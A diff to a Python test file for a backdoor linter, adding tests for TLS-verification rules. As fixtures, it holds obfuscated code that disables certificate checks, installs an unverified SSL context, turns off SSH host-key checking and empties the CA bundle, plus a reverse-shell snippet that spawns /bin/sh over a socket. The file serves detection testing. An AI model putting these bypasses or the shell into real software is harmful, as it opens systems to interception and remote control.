@@ -1,5 +1,5 @@
-"""The site tests of the secret, cryptography, JWT and reverse-shell rules (HardcodedSecret, WeakHash,
-WeakCipher, LowKdfCost, HardcodedCryptoKey, JwtAlgorithmConfusion, ReverseShell) follow what the
+"""The site tests of the secret, cryptography, TLS, JWT and reverse-shell rules (HardcodedSecret, WeakHash,
+WeakCipher, LowKdfCost, HardcodedCryptoKey, TlsVerification, JwtAlgorithmConfusion, ReverseShell) follow what the
 rules follow: every evasion here (aliases, getattr, run-time imports, values built from pieces
 by the constant evaluator) is still reported with the site tests on and off alike; and files
 that only look like a site (secret-named form fields and lexer tokens, hashing without a weak
@@ -13,6 +13,7 @@ from backdoor_lint.checkers.triggers.crypto import HardcodedCryptoKey, LowKdfCos
 from backdoor_lint.checkers.triggers.jwt import JwtAlgorithmConfusion
 from backdoor_lint.checkers.triggers.reverse_shell import ReverseShell
 from backdoor_lint.checkers.triggers.secrets import HardcodedSecret
+from backdoor_lint.checkers.triggers.tls import TlsVerification
 
 from backdoor_lint.config import Config
 from backdoor_lint.engine import scan_bytes
@@ -53,6 +54,13 @@ EVASIONS = [
     # JWT: an alias of the module, the decode function fetched with getattr
     ('import jwt as j\ndef f(t, k):\n    return j.decode(t, k, algorithms=["HS256", "RS256"])\n', "BDL101"),
     ('import jwt\ndef f(t, k):\n    return getattr(jwt, "dec" + "ode")(t, k, algorithms=["HS256", "RS256"])\n', "BDL101"),
+    # TLS: a verify key built from pieces in a mapping, setattr of ssl's hook, an ssh option built
+    # from pieces, an obsolete protocol under another name, a CA variable named in pieces
+    ('import requests as rq\nopts = {}\nopts["ver" + "ify"] = False\nrq.get(u, **opts)\n', "BDL301"),
+    ('import ssl\nsetattr(ssl, "_create_default_https_context", ssl._create_unverified_context)\n', "BDL302"),
+    ('import subprocess\nOPT = "StrictHost" + "KeyChecking=no"\nsubprocess.run(["ssh", "-o", OPT, host])\n', "BDL304"),
+    ('from ssl import PROTOCOL_TLSv1 as OLD\nimport ssl\nctx = ssl.SSLContext(OLD)\n', "BDL303"),
+    ('import os\nos.environ["REQUESTS_" + "CA_BUNDLE"] = ""\n', "BDL305"),
     # reverse shell: streams through a `**{...}` dict, dup2 under another name
     ('import socket, subprocess as sp\ns = socket.socket()\ns.connect((h, 4444))\n'
      'sp.call(["/bin/sh", "-i"], **{"stdin": s, "stdout": s, "stderr": s})\n', "BDL405"),
@@ -96,6 +104,10 @@ LOOK_ALIKES = [
                          '    return hmac.new(key, msg=value, digestmod=hashlib.sha256)\n'),
     (WeakHash, 'PASSWORD_HASHERS = ["django.contrib.auth.hashers.PBKDF2PasswordHasher"]\n'),
     (LowKdfCost, 'PASSWORD_HASHERS = ["django.contrib.auth.hashers.PBKDF2PasswordHasher"]\n'),
+    # TLS words without a TLS setting: an image's verify(), SSL options read from settings
+    (TlsVerification, 'def check(image):\n    image.verify()\n'),
+    (TlsVerification, 'import ssl\nclass B:\n    def __init__(self, use_ssl=None):\n        self.use_ssl = use_ssl\n'
+                      '    def context(self):\n        return ssl.SSLContext(protocol=ssl.PROTOCOL_TLS_CLIENT)\n'),
     # the words without the calls
     (JwtAlgorithmConfusion, 'LANG_INFO = {"jose": "José"}\n'),
     (ReverseShell, 'import socket, sys\ndef serve(server):\n    sys.stdout.write("listening on %s" % socket.gethostname())\n'),
